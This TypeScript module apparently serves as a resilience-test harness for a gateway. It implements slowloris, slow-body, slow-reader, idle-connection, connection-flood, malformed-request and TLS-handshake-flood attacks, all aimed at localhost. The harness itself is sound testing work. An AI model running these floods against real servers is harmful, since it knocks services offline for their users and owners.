/**
 * What hostile clients do, each as many connections of one kind, on plain Node sockets. Whoever is cut comes back at once.
 */
import { connect, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";

export interface AttackTarget {
  readonly httpPort: number;
  readonly httpsPort: number;
}

export interface AttackCounts {
  /** Connections that were established. */
  opened: number;
  /** Those that the gateway ended. */
  cut: number;
}

export interface RunningAttack {
  readonly counts: AttackCounts;
  /** All of its connections are up, or it has begun to hammer. */
  readonly isUp: () => boolean;
  stop(): void;
}

export interface Attack {
  readonly name: string;
  readonly title: string;
  /** Connections at once. */
  readonly size: number;
  readonly isTls: boolean;
  /** `hold`: connections that stay as long as they may; `hammer`: something again and again. */
  readonly kind: "hold" | "hammer";
  start(target: AttackTarget, size: number): RunningAttack;
}

const TRICKLE_MS = 1_000;
/** A hammering lane does not wait longer for the gateway's answer to nonsense. */
const PATIENCE_MS = 1_000;
/** In a flood without pause, so many connections end the attack: the ports of a machine are not endless. */
const MAX_FLOOD = 200_000;

export const ATTACKS: readonly Attack[] = [
  {
    name: "slowloris",
    title: "2,000 heads that trickle in",
    size: 2_000,
    isTls: false,
    kind: "hold",
    start: (target, size) =>
      hold(target, size, { hello: "GET /small HTTP/1.1\r\nHost: localhost\r\n", trickle: (socket) => socket.write("X-Slow: 1\r\n") }),
  },
  {
    name: "slow-bodies",
    title: "500 bodies that trickle in",
    size: 500,
    isTls: false,
    kind: "hold",
    start: (target, size) =>
      hold(target, size, {
        hello: "POST /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n",
        trickle: (socket) => socket.write("x"),
      }),
  },
  {
    name: "slow-readers",
    title: "100 readers of 10 MiB at 1 KiB/s",
    // Several MiB of socket buffers each: with some hundreds the kernel runs out of memory for TCP, before any gateway does.
    size: 100,
    isTls: false,
    kind: "hold",
    start: (target, size) =>
      hold(target, size, { hello: "GET /big HTTP/1.1\r\nHost: localhost\r\n\r\n", trickle: (socket) => socket.read(1024), isPaused: true }),
  },
  {
    name: "idle",
    title: "2,000 connections that say nothing",
    size: 2_000,
    isTls: false,
    kind: "hold",
    start: (target, size) => hold(target, size, { hello: "", trickle: () => {} }),
  },
  {
    name: "connections",
    title: "connections opened and closed, 100 at a time",
    size: 100,
    isTls: false,
    kind: "hammer",
    start: ({ httpPort }, size) => hammer(size, (counts) => openAndClose(httpPort, counts)),
  },
  {
    name: "malformed",
    title: "malformed requests, 100 at a time",
    size: 100,
    isTls: false,
    kind: "hammer",
    start: ({ httpPort }, size) => hammer(size, (counts, index) => sayNonsense(httpPort, counts, index)),
  },
  {
    name: "handshakes",
    title: "TLS handshakes, 20 at a time",
    size: 20,
    isTls: true,
    kind: "hammer",
    start: ({ httpsPort }, size) => hammer(size, (counts) => shakeHands(httpsPort, counts)),
  },
];

interface Holding {
  readonly hello: string;
  readonly trickle: (socket: Socket) => void;
  readonly isPaused?: boolean;
}

function hold({ httpPort }: AttackTarget, size: number, { hello, trickle, isPaused }: Holding): RunningAttack {
  const counts: AttackCounts = { opened: 0, cut: 0 };
  const sockets = new Set<Socket>();
  let isStopped = false;
  const open = (): void => {
    const socket = connect({ host: "127.0.0.1", port: httpPort });
    if (isPaused === true) socket.pause();
    else socket.resume();
    let isUp = false;
    socket.on("connect", () => {
      isUp = true;
      counts.opened++;
      sockets.add(socket);
      socket.write(hello);
    });
    socket.on("error", () => {});
    socket.on("close", () => {
      sockets.delete(socket);
      if (isStopped) return;
      if (isUp) counts.cut++;
      setTimeout(open, isUp ? 0 : 100);
    });
  };
  for (let i = 0; i < size; i++) open();
  const timer = setInterval(() => {
    for (const socket of sockets) trickle(socket);
  }, TRICKLE_MS);
  return {
    counts,
    isUp: () => counts.opened >= size,
    stop: () => {
      isStopped = true;
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
}

/** `size` lanes, each doing the same thing again and again. */
function hammer(size: number, act: (counts: AttackCounts, index: number) => Promise<void>): RunningAttack {
  const counts: AttackCounts = { opened: 0, cut: 0 };
  let isStopped = false;
  let index = 0;
  const lane = async (): Promise<void> => {
    while (!isStopped && index < MAX_FLOOD) await act(counts, index++);
  };
  for (let i = 0; i < size; i++) void lane();
  return {
    counts,
    isUp: () => counts.opened > 0,
    stop: () => {
      isStopped = true;
    },
  };
}

function openAndClose(port: number, counts: AttackCounts): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ host: "127.0.0.1", port });
    socket.on("connect", () => {
      counts.opened++;
      // A reset leaves no TIME_WAIT behind, of which the attacker would run out first.
      socket.resetAndDestroy();
    });
    socket.on("error", () => {}).on("close", () => resolve());
  });
}

const NONSENSE = [
  "GET / HTTP/9.9\r\n\r\n",
  "GET /\x00 HTTP/1.1\r\nHost: localhost\r\n\r\n",
  "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n",
  "GET /%zz HTTP/1.1\r\nHost: localhost\r\n\r\n",
  "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
  `GET / HTTP/1.1\r\nHost: localhost\r\nX-Bomb: ${"b".repeat(40_000)}\r\n\r\n`,
  "GET / HTTP/1.1\r\nHost: a b\r\n\r\n",
];

function sayNonsense(port: number, counts: AttackCounts, index: number): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ host: "127.0.0.1", port });
    let hasGivenUp = false;
    socket.on("connect", () => {
      counts.opened++;
      socket.write(Buffer.from(NONSENSE[index % NONSENSE.length] as string, "latin1"));
    });
    socket.setTimeout(PATIENCE_MS, () => {
      hasGivenUp = true;
      socket.resetAndDestroy();
    });
    socket.resume().on("error", () => {});
    socket.on("close", () => {
      if (!hasGivenUp) counts.cut++;
      resolve();
    });
  });
}

/** Always a full one: no session is offered. */
function shakeHands(port: number, counts: AttackCounts): Promise<void> {
  return new Promise((resolve) => {
    const socket = connectTls({ host: "127.0.0.1", port, servername: "localhost", rejectUnauthorized: false });
    socket.on("secureConnect", () => {
      counts.opened++;
      socket.destroy();
    });
    socket.on("error", () => {}).on("close", () => resolve());
  });
}
